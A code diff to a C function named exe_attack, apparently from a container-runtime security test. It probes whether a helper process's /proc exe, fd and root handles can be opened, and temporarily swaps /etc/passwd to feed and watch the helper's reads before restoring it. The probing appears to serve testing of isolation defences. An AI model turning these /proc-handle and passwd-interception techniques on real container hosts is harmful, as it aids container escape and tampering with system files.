@@ -227,15 +227,29 @@ static int exe_attack(void) {
   printf("exe_write=%s\n", try_open(path, O_WRONLY));
   printf("exe_read=%s\n", try_open(path, O_RDONLY));
   printf("exe_path=%s\n", try_open(path, O_PATH));
-  snprintf(path, sizeof path, "/proc/%d/fd", pid);
-  printf("fd_dir=%s\n", try_open(path, O_RDONLY | O_DIRECTORY));
+  snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
+  printf("fd_open=%s\n", try_open(path, O_PATH));
+  snprintf(path, sizeof path, "/proc/%d/root", pid);
+  printf("root_open=%s\n", try_open(path, O_PATH));
   fflush(stdout);
-  FILE* real = fopen("/etc/passwd.real", "r");
-  char buf[4096];
-  size_t n;
-  while (real && (n = fread(buf, 1, sizeof buf, real)) > 0) (void)!write(fd, buf, n);
-  close(fd);
-  usleep(200000);
+  // Serve the real content for every read (the helper reads it more than
+  // once) until the helper has exec'd.
+  for (int i = 0; i < 500; i++) {
+    if (fd < 0) fd = open("/etc/passwd", O_WRONLY | O_NONBLOCK);
+    if (fd >= 0) {
+      FILE* real = fopen("/etc/passwd.real", "r");
+      char buf[4096];
+      size_t n;
+      while (real && (n = fread(buf, 1, sizeof buf, real)) > 0) (void)!write(fd, buf, n);
+      if (real) fclose(real);
+      close(fd);
+      fd = -1;
+    }
+    if (!find_process("minirun")) break;
+    usleep(10000);
+  }
+  // Stay the container's init until the exec'd process is done.
+  for (int i = 0; i < 500 && find_process("probe"); i++) usleep(10000);
   unlink("/etc/passwd");
   rename("/etc/passwd.real", "/etc/passwd");
   return 0;
